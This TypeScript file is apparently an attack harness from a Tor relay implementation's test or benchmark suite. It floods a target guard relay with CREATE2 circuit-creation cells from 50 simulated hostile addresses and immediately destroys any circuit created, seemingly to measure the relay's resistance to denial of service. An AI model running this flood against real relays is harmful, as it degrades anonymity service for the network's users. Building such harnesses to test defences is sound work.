import { httpGet } from '../../../bench/http-get.ts';
import { cellCommand, destroyReason, handshakeType } from '../../../src/cell/commands.ts';
import { encodeCreate2 } from '../../../src/cell/link-messages.ts';
import { ntorClientRequest, ntorClientStart } from '../../../src/crypto/ntor.ts';
import { parseServerDescriptor, splitDescriptors } from '../../../src/directory/descriptor.ts';
import { SystemEntropy } from '../../../src/node-io/system-entropy.ts';
import type { LinkId } from '../../../src/ports.ts';
import { Assailant, hostileAddresses } from '../assailant.ts';
import { type Aim, type AttackReport, steadily } from '../attack.ts';

const addresses = 50;
const linksEach = 4;
const offeredPerSecond = 20_000;
const relaysMax = 100;

/** CREATE2 cells from many addresses, over several links each; a circuit that is made is ended at once. */
export async function createFlood(aim: Aim, stop: AbortSignal, begun: () => void): Promise<AttackReport> {
  const request = await createCell(aim);
  let [offered, made, refused] = [0, 0, 0];
  const assailants = hostileAddresses(addresses).map(from => {
    const one: Assailant = new Assailant(from, (link, circuit, command) => {
      if (command === cellCommand.created2) made += 1;
      else if (command === cellCommand.destroy) refused += 1;
      one.mux.releaseCircuit(
        link,
        circuit,
        command === cellCommand.created2 ? destroyReason.finished : undefined,
      );
    });
    return one;
  });
  const opened = assailants.map(async one => {
    const own = await one.openAll(aim.guard, linksEach);
    return own.map((link): [Assailant, LinkId] => [one, link]);
  });
  const links = (await Promise.all(opened)).flat();
  let turn = 0;
  begun();
  await steadily(offeredPerSecond * aim.scale, stop, () => {
    for (let tries = 0; tries < links.length; tries++) {
      const [one, link] = links[turn++ % links.length];
      const circuit = one.flows ? one.mux.allocateCircuit(link) : undefined;
      if (circuit === undefined) continue;
      one.mux.send(link, circuit, cellCommand.create2, request, 0);
      offered += 1;
      return true;
    }
    return false;
  });
  await Promise.all(assailants.map(one => one.stop()));
  return { links: links.length, offered, made, refused };
}

/** The same cell again and again: no relay minds, and it costs nothing to make. */
async function createCell({ directory, guard }: Aim): Promise<Uint8Array> {
  const entropy = new SystemEntropy();
  for (const text of splitDescriptors(await httpGet(directory, '/tor/server/all'), relaysMax)) {
    const parsed = parseServerDescriptor(text, Date.now());
    if (!parsed.ok || parsed.value.address.port !== guard.port) continue;
    const { rsaId, ntorKey } = parsed.value;
    const request = ntorClientRequest(ntorClientStart(entropy, rsaId, ntorKey));
    return encodeCreate2(handshakeType.ntor, request);
  }
  throw new Error('the authority does not know the guard');
}
